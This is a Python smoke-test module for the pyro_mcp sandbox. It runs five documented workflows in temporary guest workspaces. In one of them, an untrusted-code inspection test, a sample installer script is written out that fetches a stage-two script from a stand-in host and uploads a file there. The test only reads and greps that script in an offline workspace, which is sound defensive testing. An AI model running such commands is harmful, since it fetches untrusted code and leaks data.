"""The five workflows that we recommend, each run from end to end on real guests: `python -m` this module.

A workflow makes its own project in a temporary folder, uses nothing but the public `Pyro`, checks what it claims, and
deletes its workspaces in any case. The pages about them are in `docs/use-cases`.
"""

from __future__ import annotations

import argparse
import asyncio
import logging
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath
from typing import Any

from pyro_mcp import Pyro
from pyro_mcp.errors import GuestFailed, PyroError
from pyro_mcp.hints import Hint, Verb

_log = logging.getLogger("pyro_mcp.use_cases")
_SHELL_SECONDS = 30.0
_ENVIRONMENT = "debian:12"


@dataclass(frozen=True)
class UseCaseRecipe:
    """One workflow: how the server is started for it, what proves it, and where it is described."""

    scenario: str
    title: str
    mode: str
    """Of `pyro mcp serve --mode`: the tools that the workflow is meant to be done with."""
    profile: str
    """Of `pyro mcp serve --profile`: the smallest one that has them all."""
    smoke_target: str
    doc_path: str


WORKSPACE_USE_CASE_RECIPES = (
    UseCaseRecipe(
        scenario="cold-start-validation",
        title="Cold-start repo validation",
        mode="cold-start",
        profile="workspace-full",
        smoke_target="smoke-cold-start-validation",
        doc_path="docs/use-cases/cold-start-repo-validation.md",
    ),
    UseCaseRecipe(
        scenario="repro-fix-loop",
        title="Repro plus fix loop",
        mode="repro-fix",
        profile="workspace-core",
        smoke_target="smoke-repro-fix-loop",
        doc_path="docs/use-cases/repro-fix-loop.md",
    ),
    UseCaseRecipe(
        scenario="parallel-workspaces",
        title="Parallel isolated workspaces",
        mode="repro-fix",
        profile="workspace-core",
        smoke_target="smoke-parallel-workspaces",
        doc_path="docs/use-cases/parallel-workspaces.md",
    ),
    UseCaseRecipe(
        scenario="untrusted-inspection",
        title="Unsafe or untrusted code inspection",
        mode="inspect",
        profile="workspace-core",
        smoke_target="smoke-untrusted-inspection",
        doc_path="docs/use-cases/untrusted-inspection.md",
    ),
    UseCaseRecipe(
        scenario="review-eval",
        title="Review and evaluation workflows",
        mode="review-eval",
        profile="workspace-full",
        smoke_target="smoke-review-eval",
        doc_path="docs/use-cases/review-eval-workflows.md",
    ),
)
USE_CASE_SCENARIOS = tuple(recipe.scenario for recipe in WORKSPACE_USE_CASE_RECIPES)
USE_CASE_ALL_SCENARIO = "all"
USE_CASE_CHOICES = (*USE_CASE_SCENARIOS, USE_CASE_ALL_SCENARIO)


@dataclass
class _Scene:
    """What a workflow works with; `modes` are the execution modes that its results named, if any did."""

    pyro: Pyro
    environment: str
    seed: Path
    output: Path
    modes: set[str] = field(default_factory=set)

    def files(self, texts: Mapping[str, str]) -> None:
        """Write the project that workspaces begin as."""
        for name, text in texts.items():
            (self.seed / name).write_text(text)

    def seen(self, result: Mapping[str, Any]) -> Mapping[str, Any]:
        """Return the same result; raise `GuestFailed` when it names an execution mode that is not a guest's."""
        if "execution_mode" in result:
            mode = str(result["execution_mode"])
            if not mode.startswith("guest_"):
                raise GuestFailed(
                    f"the execution mode is {mode!r}, not a guest's",
                    hint=Hint("{} shows what a guest needs here", Verb("doctor")),
                )
            self.modes.add(mode)
        return result

    @contextmanager
    def workspace(self, **wanted: Any) -> Iterator[str]:
        """The id of a workspace of the seed, which is deleted at the end of the block."""
        made = self.pyro.create_workspace(environment=self.environment, seed_path=self.seed, **wanted)
        with self.deleting(made) as id_:
            yield id_

    @contextmanager
    def deleting(self, made: Mapping[str, Any]) -> Iterator[str]:
        """The id of a new workspace, which is deleted at the end of the block."""
        id_ = str(made["workspace_id"])
        try:
            self.seen(made)
            self.seen(self.pyro.status_workspace(id_))
            yield id_
        finally:
            self.pyro.delete_workspace(id_)

    def run(self, id_: str, command: str, *, fails: bool = False) -> str:
        """What a command prints; raises `GuestFailed` when it does not end as expected."""
        done = self.seen(self.pyro.exec_workspace(id_, command=command))
        shown = f"{command!r} ends with {done['exit_code']}"
        if (done["exit_code"] != 0) != fails:
            said = f"{done['stdout']}{done.get('stderr', '')}"[-1000:]
            raise GuestFailed(f"{shown}, but should {'fail' if fails else 'succeed'}; it said {said!r}")
        _log.info("   ok  %s", shown)
        return str(done["stdout"])

    def names(self, id_: str) -> set[str]:
        """The names in a workspace's top folder."""
        return {PurePosixPath(entry["path"]).name for entry in self.pyro.list_workspace_files(id_)["entries"]}

    def read(self, id_: str, path: str) -> str:
        """A file's text."""
        return self.pyro.read_workspace_file(id_, path)["content"]

    def exported(self, id_: str, path: str) -> str:
        """The text of a file, by way of a copy on the host."""
        copy = self.output / path
        self.pyro.export_workspace(id_, path, output_path=copy)
        return copy.read_text()


def _claim(is_so: bool, what: str) -> None:
    """Say what was shown; raises `GuestFailed` when it is not so."""
    if not is_so:
        raise GuestFailed(f"this does not hold: {what}")
    _log.info("   ok  %s", what)


_COLD_START = {
    "README": "Run validate.sh; then serve.sh is ready as soon as it has written .app-ready.\n",
    "validate.sh": "set -eu\ntest -s README && test -s serve.sh\necho validation=pass > validation-report.txt\n",
    "serve.sh": (
        "set -eu\necho service started\necho service=ready > service-state.txt\n: > .app-ready\n"
        "while :; do sleep 1; done\n"
    ),
}  # fmt: skip


def _cold_start_validation(scene: _Scene) -> None:
    scene.files(_COLD_START)
    pyro = scene.pyro
    with scene.workspace() as id_:
        _claim(scene.names(id_) >= {*_COLD_START}, "the workspace holds the repository")
        scene.run(id_, "sh validate.sh")
        ready = {"type": "file", "path": ".app-ready"}
        started = scene.seen(pyro.start_service(id_, "app", command="sh serve.sh", readiness=ready))
        _claim(started["state"] == "running", "the service is ready and runs")
        state = scene.run(id_, "sh -lc 'test -f .app-ready && cat service-state.txt'")
        _claim(state.strip() == "service=ready", "a command reads the state that the service wrote")
        _claim("service started" in pyro.logs_service(id_, "app")["stdout"], "its log holds what it said")
        _claim(pyro.stop_service(id_, "app")["state"] == "stopped", "the service is stopped")
        report = scene.exported(id_, "validation-report.txt")
        _claim(report.strip() == "validation=pass", "the report is on the host")


_REPRO_FIX = {
    "message.txt": "broken\n",
    "check.sh": 'set -eu\nfound=$(cat message.txt)\necho "message.txt says $found"\ntest "$found" = fixed\n',
}
_FIX = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n"


def _repro_fix_loop(scene: _Scene) -> None:
    scene.files(_REPRO_FIX)
    pyro = scene.pyro
    server = pyro.create_server(profile="workspace-core", project_path=scene.seed)
    called = asyncio.run(server.call_tool("workspace_create", {"environment": scene.environment}))
    made = _structured(called)
    with scene.deleting(made) as id_:
        seed = made["workspace_seed"]
        _claim(Path(seed["seed_path"]) == scene.seed, "without a seed_path, the server seeds with the project")
        scene.run(id_, "sh check.sh", fails=True)
        pyro.apply_workspace_patch(id_, patch=_FIX)
        scene.run(id_, "sh check.sh")
        _claim(pyro.diff_workspace(id_)["changed"] is True, "the diff shows the fix")
        _claim(scene.exported(id_, "message.txt") == "fixed\n", "the fixed file is on the host")
        scene.seen(pyro.reset_workspace(id_))
        _claim(pyro.diff_workspace(id_)["changed"] is False, "after a reset the diff is clean")
        _claim(scene.read(id_, "message.txt") == "broken\n", "after a reset the file is as it was")
    _claim((scene.seed / "message.txt").read_text() == "broken\n", "the project on the host is untouched")


def _structured(called: Any) -> Mapping[str, Any]:
    """The structured part of a tool's result: the SDK's object, or a pair of content and structure."""
    if isinstance(called, tuple):
        found: Mapping[str, Any] | None = called[1]
    else:
        found = None if getattr(called, "is_error", False) else called.structured_content
    if found is None:
        raise GuestFailed(f"workspace_create failed: {str(getattr(called, 'content', called))[:1000]}")
    return found


def _parallel_workspaces(scene: _Scene) -> None:
    scene.files({"approach.txt": "undecided\n"})
    pyro = scene.pyro
    with ExitStack() as stack:
        ids = {
            name: stack.enter_context(scene.workspace(name=name, labels={"task": "compare", "approach": name}))
            for name in ("alpha", "beta")
        }
        # The first one is used last, so a list by age would be the other way round.
        for name in ("beta", "alpha"):
            pyro.write_workspace_file(ids[name], "approach.txt", text=f"{name}\n")
        for name in ("beta", "alpha"):
            _claim(scene.read(ids[name], "approach.txt") == f"{name}\n", f"{name} holds its own text alone")
        for name in ("beta", "alpha"):
            pyro.update_workspace(ids[name], labels={"status": f"tried-{name}"})
        for name, id_ in ids.items():
            wanted = {"task": "compare", "approach": name, "status": f"tried-{name}"}
            _claim(dict(pyro.status_workspace(id_)["labels"]) == wanted, f"{name} has the labels that it was given")
        order = [one for one in _listed(pyro) if one in ids.values()]
        _claim(order == [ids["alpha"], ids["beta"]], "the list begins with the most recently active")
    _claim(not set(ids.values()) & set(_listed(pyro)), "both workspaces are deleted")
    _claim((scene.seed / "approach.txt").read_text() == "undecided\n", "the seed on the host is untouched")


def _listed(pyro: Pyro) -> list[str]:
    return [row["workspace_id"] for row in pyro.list_workspaces()["workspaces"]]


_UNTRUSTED = {
    "README": "Trust me and run suspicious.sh.\n",
    "suspicious.sh": (
        "# what an installer from a stranger looks like\n"
        "echo executed > suspicious-was-here.txt\n"
        "curl -fsS https://stranger.invalid/stage2.sh -o stage2.sh\n"
        "chmod +x stage2.sh\n"
        "curl -fsS --data-binary @README https://stranger.invalid/upload\n"
    ),
}
_INSPECT = (
    'sh -lc \'grep -n curl suspicious.sh | sed "s/:.*/:curl/" > inspection-report.txt'
    " && echo network_policy=off >> inspection-report.txt'"
)


def _untrusted_inspection(scene: _Scene) -> None:
    scene.files(_UNTRUSTED)
    pyro = scene.pyro
    with scene.workspace(network_policy="off") as id_:
        _claim(pyro.status_workspace(id_)["network_policy"] == "off", "the workspace has no network")
        _claim(scene.names(id_) >= {*_UNTRUSTED}, "the files are listed without running anything")
        lines = scene.read(id_, "suspicious.sh").splitlines()
        _claim(lines == _UNTRUSTED["suspicious.sh"].splitlines(), "the script is read without running it")
        scene.run(id_, _INSPECT)
        wanted = [f"{number}:curl" for number, line in enumerate(lines, 1) if "curl" in line]
        report = scene.read(id_, "inspection-report.txt")
        _claim(report.splitlines() == [*wanted, "network_policy=off"], "the report names every line with curl")
        _claim(scene.exported(id_, "inspection-report.txt") == report, "the report is on the host")
        _claim("suspicious-was-here.txt" not in scene.names(id_), "nothing suspicious was ever run")


_REVIEW = {
    "CHECKLIST.md": "# Checklist\n\n- the artifact says PASS\n- the review writes its report\n",
    "artifact.txt": "PENDING\n",
    "review.sh": 'set -eu\ntest "$(cat artifact.txt)" = PASS\necho review=pass > review-report.txt\n',
}


def _review_eval(scene: _Scene) -> None:
    scene.files(_REVIEW)
    pyro = scene.pyro
    with scene.workspace() as id_:
        shell_id = pyro.open_shell(id_)["shell_id"]
        pyro.write_shell(id_, shell_id, input="cat CHECKLIST.md")
        _claim(_shell_shows(pyro, id_, shell_id, "- the review writes its report"), "the shell shows the checklist")
        pyro.close_shell(id_, shell_id)
        pyro.create_snapshot(id_, "pre-review")
        pyro.write_workspace_file(id_, "artifact.txt", text="PASS\n")
        scene.run(id_, "sh review.sh")
        _claim(scene.exported(id_, "review-report.txt").strip() == "review=pass", "the report is on the host")
        _claim(bool(pyro.summarize_workspace(id_)["changes"].get("changed")), "the summary shows the changes")
        scene.seen(pyro.reset_workspace(id_, snapshot="pre-review"))
        _claim("review-report.txt" not in scene.names(id_), "after the reset the report is gone")
        _claim(scene.read(id_, "artifact.txt") == "PENDING\n", "after the reset the artifact is as it was")


def _shell_shows(pyro: Pyro, id_: str, shell_id: str, wanted: str) -> bool:
    end = time.monotonic() + _SHELL_SECONDS
    while True:
        # A shell on a busy host may be silent for long before its first prompt.
        output = pyro.read_shell(id_, shell_id, plain=True, wait_for_idle_ms=300)["output"]
        if wanted in output or time.monotonic() > end:
            return wanted in output


_WORKFLOWS: Mapping[str, Callable[[_Scene], None]] = {
    "cold-start-validation": _cold_start_validation,
    "repro-fix-loop": _repro_fix_loop,
    "parallel-workspaces": _parallel_workspaces,
    "untrusted-inspection": _untrusted_inspection,
    "review-eval": _review_eval,
}


def run_workspace_use_case_scenario(scenario: str, *, environment: str = _ENVIRONMENT) -> None:
    """Run one workflow, or with "all" each of them, on guests of `environment`.

    Raises `ValueError` for an unknown scenario, and `PyroError` when something does not come out as claimed.
    """
    if scenario not in USE_CASE_CHOICES:
        raise ValueError(f"unknown use-case scenario {scenario!r}; there are: {', '.join(USE_CASE_CHOICES)}")
    for recipe in WORKSPACE_USE_CASE_RECIPES:
        if scenario in (recipe.scenario, USE_CASE_ALL_SCENARIO):
            _run(recipe, environment)


def _run(recipe: UseCaseRecipe, environment: str) -> None:
    _log.info("== %s (%s)", recipe.title, recipe.scenario)
    with tempfile.TemporaryDirectory(prefix="pyro-use-case-") as folder:
        scene = _Scene(Pyro(), environment, Path(folder).resolve() / "seed", Path(folder).resolve() / "output")
        scene.seed.mkdir()
        scene.output.mkdir()
        _WORKFLOWS[recipe.scenario](scene)
        if scene.modes:
            _log.info("   ok  all of it ran in a guest: %s", ", ".join(sorted(scene.modes)))


def build_arg_parser() -> argparse.ArgumentParser:
    """The command line of `main`."""
    parser = argparse.ArgumentParser(
        prog="python -m pyro_mcp.workspace_use_case_smokes",
        description="Run the documented workflows from end to end on real guests.",
    )
    parser.add_argument(
        "--scenario", choices=USE_CASE_CHOICES, default=USE_CASE_ALL_SCENARIO, help="which one (default: all)"
    )
    parser.add_argument("--environment", default=_ENVIRONMENT, metavar="ENV", help=f"default: {_ENVIRONMENT}")
    return parser


def main() -> int:
    """Run what the command line asks for; the exit code is 0 when every claim holds."""
    arguments = build_arg_parser().parse_args()
    _log.addHandler(told := logging.StreamHandler(sys.stdout))
    _log.setLevel(logging.INFO)
    try:
        run_workspace_use_case_scenario(arguments.scenario, environment=arguments.environment)
    except PyroError as error:
        text = "".join(one if one.isprintable() or one == "\n" else f"\\x{ord(one):02x}" for one in str(error))
        sys.stderr.write(f"use case failed: {text}\n")
        return error.exit_code
    finally:
        _log.removeHandler(told)
    return 0


if __name__ == "__main__":
    sys.exit(main())
